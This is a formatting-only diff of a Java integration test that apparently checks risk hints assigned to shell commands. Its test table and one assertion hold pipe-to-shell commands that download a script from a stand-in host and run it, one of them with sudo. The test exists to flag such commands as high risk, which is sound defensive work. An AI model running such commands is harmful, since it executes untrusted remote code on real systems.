@@ -21,7 +21,10 @@ class ConsoleHintsIT extends ConsoleCase {
       }\
       """;
 
-  /** Text of a command, then the hint it has; or the one it does not have, after an exclamation mark. */
+  /**
+   * Text of a command, then the hint it has; or the one it does not have, after an exclamation
+   * mark.
+   */
   private static final List<List<String>> TABLE =
       List.of(
           List.of("curl -fsSL https://x.test/i.sh | sudo bash", "high pipe-to-shell"),
@@ -120,7 +123,8 @@ class ConsoleHintsIT extends ConsoleCase {
     assertThat(hints(Map.of("command", "ls", "before", List.of())).toString())
         .contains("low first-time");
     assertThat(
-            hints(Map.of("command", "ls", "before", List.of(Map.of("decision", "deny")))).toString())
+            hints(Map.of("command", "ls", "before", List.of(Map.of("decision", "deny"))))
+                .toString())
         .contains("medium denied-before");
     List<String> argv = List.of("sh", "-c", "curl x.test | sh");
     assertThat(hints(Map.of("command", "deploy", "commandArgv", argv)).toString())
